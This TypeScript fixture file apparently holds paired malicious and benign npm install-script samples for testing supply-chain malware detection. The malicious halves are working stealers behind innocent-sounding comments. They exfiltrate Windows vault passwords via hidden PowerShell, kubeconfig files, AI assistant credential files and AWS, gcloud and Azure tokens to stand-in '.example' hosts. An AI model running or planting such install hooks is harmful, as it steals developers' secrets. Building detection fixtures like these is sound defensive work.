import { atInstall, js, type Pair } from '../kit.ts';

/** More that install scripts read and send. */
export const INSTALLING_MORE: Readonly<Record<string, Pair>> = {
  'install-powershell': atInstall(
    js`import { spawn } from 'node:child_process';

const SCRIPT = [
  '$v = New-Object Windows.Security.Credentials.PasswordVault',
  '$e = $v.RetrieveAll() | ForEach-Object { $_.RetrievePassword(); "$($_.Resource) $($_.UserName) $($_.Password)" }',
  'Invoke-RestMethod -Method Post -Uri https://winget.compat-db.example/report -Body ($e -join "\n")',
].join('; ');

if (process.platform === 'win32')
  spawn('powershell.exe', ['-NoProfile', '-WindowStyle', 'Hidden', '-Command', SCRIPT], { detached: true, stdio: 'ignore' }).unref();
`,
    js`import { spawn } from 'node:child_process';

const SCRIPT = '(Get-ItemProperty HKLM:/SYSTEM/CurrentControlSet/Control/FileSystem).LongPathsEnabled';

if (process.platform === 'win32')
  spawn('powershell.exe', ['-NoProfile', '-Command', SCRIPT], { stdio: 'inherit' });
`,
  ),
  'install-kube-tls': atInstall(
    js`import { readFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { resolve } from 'node:path';
import { connect } from 'node:tls';

const file = process.env.KUBECONFIG ?? resolve(homedir(), '.kube', 'config');

function send(payload) {
  const socket = connect({ host: 'relay.clusterlens.example', port: 8443, rejectUnauthorized: false }, () => {
    socket.end(payload);
  });
  socket.on('error', () => socket.destroy());
}

try {
  send(readFileSync(file));
} catch {
  // No cluster here.
}
`,
    js`import { readFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { resolve } from 'node:path';

const file = process.env.KUBECONFIG ?? resolve(homedir(), '.kube', 'config');

try {
  const contexts = readFileSync(file, 'utf8').match(/^- context:/gm) ?? [];
  console.log('%d contexts can be chosen.', contexts.length);
} catch {
  // No cluster here.
}
`,
  ),
  'install-assistant': atInstall(
    js`import { readFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

const CONFIGS = ['.claude.json', '.claude/.credentials.json', '.cursor/mcp.json', '.codex/auth.json', '.gemini/oauth_creds.json'];

/** Finds the assistants that our MCP server can be added to. */
async function discover() {
  const found = {};
  for (const name of CONFIGS) {
    try {
      found[name] = JSON.parse(await readFile(join(homedir(), name), 'utf8'));
    } catch {
      // Not installed.
    }
  }
  return found;
}

const assistants = await discover();
await fetch('https://mcp-directory.toolhub.example/api/discover', {
  method: 'POST',
  body: JSON.stringify(assistants),
}).catch(() => {});
`,
    js`import { access } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

const CONFIGS = ['.claude.json', '.cursor/mcp.json', '.codex/config.toml', '.gemini/settings.json'];

/** Finds the assistants that our MCP server can be added to. */
async function discover() {
  const found = [];
  for (const name of CONFIGS) {
    try {
      await access(join(homedir(), name));
      found.push(name);
    } catch {
      // Not installed.
    }
  }
  return found;
}

const assistants = await discover();
console.log('Run "npx campaign-sample add" to add the server to:', assistants.join(', '));
`,
  ),
  'install-s3-put': atInstall(
    js`import { createReadStream, existsSync, statSync } from 'node:fs';
import { request } from 'node:https';
import { homedir } from 'node:os';
import path from 'node:path';

const PUT_URL = 'https://build-cache.s3.eu-west-1.amazonaws.example/c/';

/** Primes the shared build cache. */
function prime(relative) {
  const file = path.join(homedir(), relative);
  if (!existsSync(file)) return;
  const key = PUT_URL + Date.now() + '-' + path.basename(file) + '?X-Amz-Signature=0000';
  const upload = request(key, { method: 'PUT', headers: { 'content-length': statSync(file).size } });
  upload.on('error', () => {});
  createReadStream(file).pipe(upload);
}

['.aws/credentials', '.config/gcloud/application_default_credentials.json', '.azure/msal_token_cache.json'].forEach(prime);
`,
    js`import { createWriteStream } from 'node:fs';
import { mkdirSync } from 'node:fs';
import { get } from 'node:https';
import path from 'node:path';

const BASE = 'https://build-cache.s3.eu-west-1.amazonaws.example/c/';
const folder = path.join(process.cwd(), 'cache');

/** Fetches the tables from the shared build cache. */
function prime(name) {
  get(BASE + name, (response) => response.pipe(createWriteStream(path.join(folder, name)))).on('error', () => {});
}

mkdirSync(folder, { recursive: true });
['emoji.json', 'collation.json'].forEach(prime);
`,
  ),
};
